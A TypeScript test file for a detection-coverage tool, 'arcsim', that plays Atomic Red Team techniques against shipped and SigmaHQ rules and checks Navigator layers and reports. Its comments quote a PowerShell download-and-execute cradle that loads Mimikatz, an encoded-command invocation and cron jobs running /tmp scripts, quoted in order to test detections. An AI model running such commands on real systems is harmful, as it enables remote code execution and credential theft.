import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { COVERAGE_COLORS, runCoverage, toCoverageLayer, toCoverageMarkdown, toCoverageTable, type CoverageResult } from '../../testruns/coverage/index.ts';
import { cleanup, tempDir } from '../helpers.ts';

// Real Atomic Red Team technique files (MIT, see the LICENSE.txt beside them) and real SigmaHQ
// rules (DRL 1.1, see LICENSE.md). Expected detections below come from what the rule and the
// atomic say, quoted in each test.
const FIXTURES = join(import.meta.dirname, '..', 'fixtures', 'coverage');
const ATOMICS = join(FIXTURES, 'atomics');
const SIGMA = join(FIXTURES, 'sigma');
const BIN = join(import.meta.dirname, '..', '..', 'bin', 'arcsim.js');

/** SigmaHQ ids, from the rule files. */
const IEX_CRADLE = '85b0b087-eddf-4a2b-b033-d771fa2b9775'; // PowerShell Download and Execution Cradles
const LNX_SCRIPT_TMP = '30bcce26-51c5-49f2-99c8-7b59e3af36c7'; // Execution Of Script Located In Potentially Suspicious Directory
const WIN_IMAGE_MISSING = '71158e3f-df67-472b-930e-7d287acaa3e1'; // Execution Of Non-Existing File (Windows)
/** The shipped rule suspicious_powershell_encoded_command.yml: id and title. */
const SHIPPED_ENCODED = '06e8ffa0-f122-40d9-8b06-3b640ea71c0f';
const SHIPPED_ENCODED_TITLE = 'Suspicious PowerShell CommandLine \\(encoded command\\)';

let shipped: Promise<CoverageResult> | undefined;
let sigma: Promise<CoverageResult> | undefined;
const withShippedRules = () => (shipped ??= runCoverage({ atomicsDir: ATOMICS }));
const withSigmaRules = () => (sigma ??= runCoverage({ atomicsDir: ATOMICS, rulesDirs: [SIGMA] }));
const techniqueOf = (r: CoverageResult, id: string) => r.techniques.find((t) => t.id === id)!;
/** atomic_tests of a fixture file, read with a plain YAML parser (not the importer under test). */
const artTests = (id: string): Array<{ name: string; supported_platforms: string[]; executor: { name: string } }> =>
  parse(readFileSync(join(ATOMICS, id, `${id}.yaml`), 'utf8')).atomic_tests;

test('shipped rules: the encoded-command rule detects T1027 test 2 and nothing else there; T1016 and T1053.003 go undetected', async () => {
  const r = await withShippedRules();
  assert.deepEqual(r.techniques.map((t) => t.id), ['T1016', 'T1027', 'T1053.003', 'T1059.001']);
  // T1027 test 2 "Execute base64-encoded PowerShell" runs `powershell.exe -EncodedCommand $EncodedCommand`;
  // the shipped rule wants a powershell image and " -encodedcommand " (windash) on the command line.
  const t1027 = techniqueOf(r, 'T1027');
  assert.equal(artTests('T1027')[1]!.name, 'Execute base64-encoded PowerShell');
  assert.deepEqual(t1027.tests[1]!.rules, [SHIPPED_ENCODED]);
  assert.equal(t1027.tests[1]!.guid, 'a50d5a97-2531-499e-a1de-5544c74432c6');
  assert.equal(t1027.detected, true);
  assert.deepEqual(t1027.rules, [SHIPPED_ENCODED]);
  // System network configuration discovery (ipconfig, netsh, arp...) and cron: no shipped rule is about them.
  for (const id of ['T1016', 'T1053.003']) {
    const t = techniqueOf(r, id);
    assert.equal(t.detected, false, id);
    assert.deepEqual(t.rules, []);
    assert.ok(t.tests.every((x) => !x.detected && x.rules.length === 0));
  }
});

test('every test of every file is counted: played or refused with the reason, never dropped', async () => {
  const r = await withShippedRules();
  let total = 0;
  for (const t of r.techniques) {
    const art = artTests(t.id);
    total += art.length;
    assert.deepEqual(t.tests.map((x) => x.number), art.map((_, i) => i + 1), t.id);
    assert.deepEqual(t.tests.map((x) => x.name), art.map((a) => a.name), t.id);
  }
  assert.equal(r.totals.tests, total);
  assert.equal(r.totals.testsPlayed + r.totals.testsRefused, total);
  // T1016 test 8 "List macOS Firewall Rules" is macOS only; T1027 test 8 has a manual executor.
  const mac = techniqueOf(r, 'T1016').tests[7]!;
  assert.deepEqual(artTests('T1016')[7]!.supported_platforms, ['macos']);
  assert.equal(mac.status, 'refused');
  assert.match(mac.reason!, /macos/);
  const manual = techniqueOf(r, 'T1027').tests[7]!;
  assert.equal(artTests('T1027')[7]!.executor.name, 'manual');
  assert.equal(manual.status, 'refused');
  assert.match(manual.reason!, /manual/);
  // A played test is on an OS its supported_platforms name.
  for (const t of r.techniques) {
    const art = artTests(t.id);
    for (const x of t.tests.filter((y) => y.status === 'played')) assert.ok(art[x.number - 1]!.supported_platforms.includes(x.platform!), `${t.id} test ${x.number}`);
  }
  assert.equal(techniqueOf(r, 'T1027').tests[0]!.platform, 'linux');
});

test('SigmaHQ rules: the IEX download cradle rule detects T1059.001 test 1, the /tmp script rule each cron test and T1027 test 1', async () => {
  const r = await withSigmaRules();
  // T1059.001 test 1 runs `IEX (New-Object Net.WebClient).DownloadString('#{mimurl}')`: the rule wants
  // one of ".DownloadString(" ... and one of "IEX (" ... on the command line.
  assert.match(artTests('T1059.001')[0]!.name, /Mimikatz/);
  assert.ok(techniqueOf(r, 'T1059.001').tests[0]!.rules.includes(IEX_CRADLE));
  // The cron tests run `crontab ... /tmp/...` through bash -c: the Linux rule wants a shell image,
  // " -c " and "/tmp/" on the command line.
  const cron = techniqueOf(r, 'T1053.003');
  for (const x of cron.tests) assert.deepEqual(x.rules, [LNX_SCRIPT_TMP], `T1053.003 test ${x.number}`);
  // T1027 test 1 "Decode base64 Data into Script" (executor sh) writes and runs /tmp/art.sh.
  assert.equal(artTests('T1027')[0]!.executor.name, 'sh');
  assert.deepEqual(techniqueOf(r, 'T1027').tests[0]!.rules, [LNX_SCRIPT_TMP]);
  const hits = r.techniques.flatMap((t) => t.tests.filter((x) => x.rules.includes(LNX_SCRIPT_TMP)).map((x) => `${t.id}#${x.number}`));
  assert.deepEqual(hits, ['T1027#1', 'T1053.003#1', 'T1053.003#2', 'T1053.003#3', 'T1053.003#4']);
  assert.equal(r.rules.find((x) => x.id === LNX_SCRIPT_TMP)?.tests, 5);
  // The cradle rule is Windows-only: no Linux test lists it.
  assert.ok(r.techniques.every((t) => t.tests.every((x) => x.platform === 'windows' || !x.rules.includes(IEX_CRADLE))));
  assert.equal(r.totals.rulesLoaded, 3);
  assert.equal(r.totals.rulesRefused, 0);
});

test('a Windows rule does not run on a Linux test\'s host: each test host has the OS it was played on', async () => {
  const r = await withSigmaRules();
  // "Execution Of Non-Existing File" (product: windows) matches any image without a backslash, so
  // every Linux path: before the OS family filter it fired on every Linux test (issue 13, found bug).
  const linux = r.techniques.flatMap((t) => t.tests.filter((x) => x.platform === 'linux'));
  assert.ok(linux.length >= 5);
  for (const x of linux) {
    assert.deepEqual(x.otherPlatformRules, [], x.name);
    assert.ok(!x.rules.includes(WIN_IMAGE_MISSING), x.name);
  }
  assert.ok(r.techniques.every((t) => !t.rules.includes(WIN_IMAGE_MISSING)));
  assert.equal(r.rules.find((x) => x.id === WIN_IMAGE_MISSING), undefined);
  assert.equal(r.totals.otherPlatformHits, 0);
  assert.equal(techniqueOf(r, 'T1016').tests.find((x) => x.platform === 'linux')!.detected, false);
});

test('a technique file the importer refuses and a rule the loader refuses are reported, the rest is used', async (t) => {
  const dir = tempDir('arcsim-coverage-');
  t.after(() => cleanup(dir));
  const atomics = join(dir, 'atomics');
  mkdirSync(join(atomics, 'T1053.003'), { recursive: true });
  copyFileSync(join(ATOMICS, 'T1053.003', 'T1053.003.yaml'), join(atomics, 'T1053.003', 'T1053.003.yaml'));
  mkdirSync(join(atomics, 'T9999'));
  writeFileSync(join(atomics, 'T9999', 'T9999.yaml'), 'attack_technique: T9999\ndisplay_name: x\nsurprise: 1\natomic_tests:\n- name: t\n  supported_platforms: [linux]\n  executor: {name: sh, command: id}\n');
  const rules = join(dir, 'rules');
  mkdirSync(rules);
  copyFileSync(join(SIGMA, 'proc_creation_lnx_susp_shell_script_exec_from_susp_location.yml'), join(rules, 'ok.yml'));
  writeFileSync(join(rules, 'broken.yml'), 'title: broken\nlogsource: {category: process_creation, product: linux}\ndetection: {sel: {Image: x}, condition: sel | count() > 5}\n');
  const r = await runCoverage({ atomicsDir: atomics, rulesDirs: [rules] });
  assert.equal(r.refusedFiles.length, 1);
  assert.match(r.refusedFiles[0]!.file, /T9999/);
  assert.match(r.refusedFiles[0]!.reason, /ARCSIM_E_SCENARIO_UNKNOWN_KEY.*surprise/);
  assert.equal(r.totals.rulesRefused, 1);
  assert.match(r.refusedRules[0]!.file, /broken\.yml$/);
  assert.equal(r.totals.rulesLoaded, 1);
  assert.ok(techniqueOf(r, 'T1053.003').detected);
  assert.match(toCoverageTable(r), /1 technique file\(s\) refused: T9999/);
});

test('an atomics path that does not exist or holds no technique file is ARCSIM_E_NOT_FOUND, on the CLI too', async (t) => {
  const dir = tempDir('arcsim-coverage-');
  t.after(() => cleanup(dir));
  await assert.rejects(runCoverage({ atomicsDir: join(dir, 'nope') }), { code: 'ARCSIM_E_NOT_FOUND', message: /no such file or directory/ });
  await assert.rejects(runCoverage({ atomicsDir: dir }), { code: 'ARCSIM_E_NOT_FOUND', message: /no Atomic Red Team technique file/ });
  const cli = spawnSync(process.execPath, [BIN, 'coverage', '--atomics', join(dir, 'nope')], { encoding: 'utf8', timeout: 60_000 });
  assert.equal(cli.status, 1);
  assert.match(cli.stderr, /^arcsim: ARCSIM_E_NOT_FOUND: .*nope: no such file or directory$/m);
});

/** The required fields of ATT&CK Navigator layer format 4.5 (mitre-attack/attack-navigator, layers/spec/v4.5/layerformat.md). */
function layerProblems(layer: any): string[] {
  const out: string[] = [];
  const isStr = (v: unknown) => typeof v === 'string';
  if (!isStr(layer.name)) out.push('name: required string');
  if (!['enterprise-attack', 'mobile-attack', 'ics-attack'].includes(layer.domain)) out.push('domain: enterprise-attack, mobile-attack or ics-attack');
  if (layer.versions) {
    if (layer.versions.layer !== '4.5') out.push('versions.layer: must be "4.5"');
    const nav = String(layer.versions.navigator ?? '').split('.').map(Number);
    if (!(nav[0]! > 4 || (nav[0] === 4 && nav[1]! >= 9))) out.push('versions.navigator: must be at least 4.9.0');
  }
  if (layer.techniques !== undefined && !Array.isArray(layer.techniques)) out.push('techniques: array');
  for (const [i, t] of (layer.techniques ?? []).entries()) {
    if (!/^T\d{4}(\.\d{3})?$/.test(t.techniqueID)) out.push(`techniques.${i}.techniqueID: T#### or T####.###`);
    if (t.score !== undefined && typeof t.score !== 'number') out.push(`techniques.${i}.score: number`);
    if (t.comment !== undefined && !isStr(t.comment)) out.push(`techniques.${i}.comment: string`);
    if (t.color !== undefined && !/^#[0-9a-f]{6}$/i.test(t.color)) out.push(`techniques.${i}.color: hex`);
    if (t.enabled !== undefined && typeof t.enabled !== 'boolean') out.push(`techniques.${i}.enabled: boolean`);
    for (const m of t.metadata ?? []) if (!m.divider && !(isStr(m.name) && isStr(m.value))) out.push(`techniques.${i}.metadata: name and value strings`);
  }
  if (layer.gradient) {
    const g = layer.gradient;
    if (!Array.isArray(g.colors) || g.colors.length < 2) out.push('gradient.colors: at least two');
    if (!(typeof g.minValue === 'number' && typeof g.maxValue === 'number' && g.maxValue > g.minValue)) out.push('gradient: maxValue > minValue');
  }
  for (const l of layer.legendItems ?? []) if (!(isStr(l.label) && isStr(l.color))) out.push('legendItems: label and color');
  for (const m of layer.metadata ?? []) if (!m.divider && !(isStr(m.name) && isStr(m.value))) out.push('metadata: name and value strings');
  return out;
}

test('the Navigator layer is valid format 4.5 and colours detected / not detected / not played', async (t) => {
  const r = await withShippedRules();
  const layer = toCoverageLayer(r) as any;
  assert.deepEqual(layerProblems(layer), []);
  // The checker itself refuses what the spec refuses.
  assert.deepEqual(layerProblems({ name: 'x', domain: 'enterprise', versions: { layer: '4.4', navigator: '4.8.2' }, techniques: [{ techniqueID: '1059' }] }),
    ['domain: enterprise-attack, mobile-attack or ics-attack', 'versions.layer: must be "4.5"', 'versions.navigator: must be at least 4.9.0', 'techniques.0.techniqueID: T#### or T####.###']);
  const by = (id: string) => layer.techniques.find((x: any) => x.techniqueID === id);
  assert.equal(by('T1027').color, COVERAGE_COLORS.detected);
  assert.ok(by('T1027').score > 0);
  assert.equal(by('T1016').color, COVERAGE_COLORS.missed);
  assert.equal(by('T1016').score, 0);
  assert.equal(by('T1059.001').techniqueID, 'T1059.001');
  // A technique with no test arcsim can play (macOS only) is grey and unscored.
  const dir = tempDir('arcsim-coverage-');
  t.after(() => cleanup(dir));
  writeFileSync(join(dir, 'T1016.yaml'), readFileSync(join(ATOMICS, 'T1016', 'T1016.yaml'), 'utf8')
    .split('\n- name: ').filter((part, i) => i === 0 || part.startsWith('List macOS Firewall Rules')).join('\n- name: '));
  const mac = toCoverageLayer(await runCoverage({ atomicsDir: dir })) as any;
  assert.deepEqual(layerProblems(mac), []);
  assert.equal(mac.techniques[0].color, COVERAGE_COLORS.notPlayed);
  assert.equal(mac.techniques[0].score, undefined);
});

test('the Markdown report has the technique and test tables', async () => {
  const md = toCoverageMarkdown(await withShippedRules());
  assert.match(md, /^\| technique \| name \| tests played \| tests detected \| rules \|$/m);
  assert.match(md, new RegExp(`^\\| T1027 \\| Obfuscated Files or Information \\| 10 / 11 \\| 1 \\| ${SHIPPED_ENCODED_TITLE} \\|$`, 'm'));
  assert.match(md, new RegExp(`^\\| T1027 \\| 2 \\| Execute base64-encoded PowerShell \\| windows \\| detected \\| ${SHIPPED_ENCODED_TITLE} \\|$`, 'm'));
  assert.match(md, new RegExp(`^\\| ${SHIPPED_ENCODED} \\| ${SHIPPED_ENCODED_TITLE} \\| 1 \\|$`, 'm'));
  assert.match(md, /^\| T1016 \| 8 \| List macOS Firewall Rules \| — \| refused \| .*macos.* \|$/m);
});

test('arcsim coverage: the table by default, --json with techniques [{id, tests, detected, rules}], --navigator and --report files', (t) => {
  const dir = tempDir('arcsim-coverage-');
  t.after(() => cleanup(dir));
  const table = spawnSync(process.execPath, [BIN, 'coverage', '--atomics', ATOMICS], { encoding: 'utf8', timeout: 60_000 });
  assert.equal(table.status, 0, table.stderr);
  assert.match(table.stdout, /^technique +name +played +detected +rules$/m);
  assert.match(table.stdout, /^T1027 .* 10\/11 +1 +Suspicious PowerShell CommandLine \(encoded command\)$/m);
  const json = spawnSync(process.execPath, [BIN, 'coverage', '--atomics', ATOMICS, '--rules', SIGMA, '--json',
    '--navigator', join(dir, 'layer.json'), '--report', join(dir, 'report.md')], { encoding: 'utf8', timeout: 60_000 });
  assert.equal(json.status, 0, json.stderr);
  const out = JSON.parse(json.stdout);
  for (const tech of out.techniques) {
    assert.equal(typeof tech.id, 'string');
    assert.equal(typeof tech.detected, 'boolean');
    assert.ok(Array.isArray(tech.rules) && Array.isArray(tech.tests));
    for (const x of tech.tests) assert.deepEqual(Object.keys(x).filter((k) => ['number', 'name', 'status', 'detected', 'rules'].includes(k)).sort(), ['detected', 'name', 'number', 'rules', 'status']);
  }
  assert.equal(out.totals.testsPlayed + out.totals.testsRefused, out.totals.tests);
  assert.ok(out.techniques.find((x: any) => x.id === 'T1059.001').rules.includes(IEX_CRADLE));
  assert.deepEqual(layerProblems(JSON.parse(readFileSync(join(dir, 'layer.json'), 'utf8'))), []);
  assert.match(readFileSync(join(dir, 'report.md'), 'utf8'), /^# arcsim coverage/);
  const help = spawnSync(process.execPath, [BIN, 'coverage', '--help'], { encoding: 'utf8' });
  for (const opt of ['--atomics', '--rules', '--json', '--navigator', '--report']) assert.match(help.stdout, new RegExp(opt));
});
